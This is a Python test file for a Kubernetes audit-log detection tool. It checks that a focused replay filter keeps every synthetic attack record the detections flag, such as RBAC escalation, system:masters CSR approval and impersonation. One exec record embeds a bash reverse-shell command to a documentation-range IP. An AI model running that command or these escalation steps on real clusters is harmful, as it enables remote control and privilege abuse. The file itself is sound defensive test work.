"""The focused replay's audit filter (`might_signal`, the detector's own declaration)
keeps every record the new detections act on: focused and full replays agree."""

from __future__ import annotations

import json
import random
from pathlib import Path

import orjson
from test_detect_audit import audit
from test_detect_audit_exec import exec_uri
from test_detect_audit_identity import NODE, from_ip, kubelet_status_patch
from test_detect_audit_objects import (
    configmap,
    csr_approve,
    csr_body,
    csr_create,
    deployment,
    mirror_pod,
    role,
    sa_binding,
    webhook,
)
from test_focus import _assert_same

from ktriage.core.detect.audit import might_signal
from ktriage.core.ingest import Ingestor
from ktriage.core.parse.audit import DECODER


def attack_records() -> list[dict]:
    """One or more records for every audit detection, at increasing times."""
    recs: list[dict] = [
        kubelet_status_patch(aid="learn"),
        from_ip(
            audit(
                "list", "pods", ns=None, user="system:serviceaccount:kube-system:coredns", aid="out"
            ),
            "8.8.8.8",
        ),
        from_ip(audit("get", "nodes", ns=None, name="n", user=NODE, aid="out2"), "8.8.4.4"),
        audit(
            "create",
            "pods",
            ns="shop",
            name="web-1",
            sub="exec",
            code=101,
            uri=exec_uri("bash", "-c", "bash -i >& /dev/tcp/198.51.100.4/1 0>&1"),
            aid="ex",
        ),
        role([{"resources": ["pods/exec"], "verbs": ["create"]}], name="exec-all"),
        sa_binding("ci"),
        csr_create(csr_body("x", ("system:masters",))),
        csr_approve(csr_body("x", ("system:masters",)), "mallory"),
        webhook("create", "mutatingwebhookconfigurations", {"webhooks": [{"name": "w"}]}),
        configmap("coredns", {"Corefile": "x"}),
        configmap("aws-auth", {"mapRoles": "system:masters"}),
        audit("delete", "events", name="e1", aid="ev"),
        audit(
            "create",
            "services",
            name="np",
            code=201,
            body={"spec": {"type": "NodePort"}},
            aid="svc",
        ),
        deployment([{"name": "web"}], user="ci", aid="d1"),
        deployment([{"name": "web"}, {"name": "side"}], verb="patch", user="eve", aid="d2"),
        audit("create", "daemonsets", ns="kube-system", name="agent", code=201, aid="ds"),
        mirror_pod("system:node:cp1", privileged=True),
        audit(
            "create",
            "serviceaccounts",
            ns="kube-system",
            name="generic-garbage-collector",
            sub="token",
            code=201,
            aid="tok",
        ),
        audit("list", "secrets", ns=None, user="system:anonymous", aid="anon"),
    ]
    recs += [
        audit("get", "secrets", ns="p", name=f"s{i}", user="bob", aid=f"sr{i}") for i in range(22)
    ]
    recs += [audit("delete", "namespaces", ns=None, name=f"t{i}", aid=f"nd{i}") for i in range(6)]
    imp = audit("get", "configmaps", name="c", aid="imp")
    imp["impersonatedUser"] = {"username": "x", "groups": ["system:masters"]}
    recs.append(imp)
    return recs


def noise_records(n: int) -> list[dict]:
    """Ordinary traffic: controllers, kubelets reading their pods' secrets, people
    reading pods."""
    rng = random.Random(7)
    users = [
        "system:serviceaccount:kube-system:replicaset-controller",
        "system:kube-scheduler",
        NODE,
        "alice",
    ]
    out = []
    for i in range(n):
        user = rng.choice(users)
        if user == NODE:
            rec = audit("get", "secrets", name=f"s{i % 5}", user=user, aid=f"nz{i}")
            out.append(from_ip(rec, "192.168.3.178"))
        else:
            out.append(audit(rng.choice(["get", "list", "watch"]), "pods", name=f"p{i % 9}",
                             user=user, aid=f"nz{i}"))  # fmt: skip
    return out


def write(path: Path, records: list[dict]) -> Path:
    for i, rec in enumerate(records):
        rec["stageTimestamp"] = f"2024-05-01T12:{i // 60 % 60:02d}:{i % 60:02d}.000000Z"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


def test_every_audit_detection_gives_the_same_incidents_focused(tmp_path: Path) -> None:
    rng = random.Random(11)
    records = noise_records(400)
    for rec in attack_records():
        records.insert(rng.randrange(len(records) + 1), rec)
    replayer = _assert_same([write(tmp_path / "audit.jsonl", records)])
    assert replayer.stats.lines == len(records)


def test_might_signal_accepts_every_record_a_detection_acts_on() -> None:
    ing = Ingestor()
    for rec in attack_records():
        line = orjson.dumps(rec)
        events = ing.feed_line(line)
        if any(e.signal for e in events):
            assert might_signal(DECODER.decode(line)), rec
    for rec in noise_records(50):
        if rec["user"]["username"] == NODE:
            assert not might_signal(DECODER.decode(orjson.dumps(rec)))
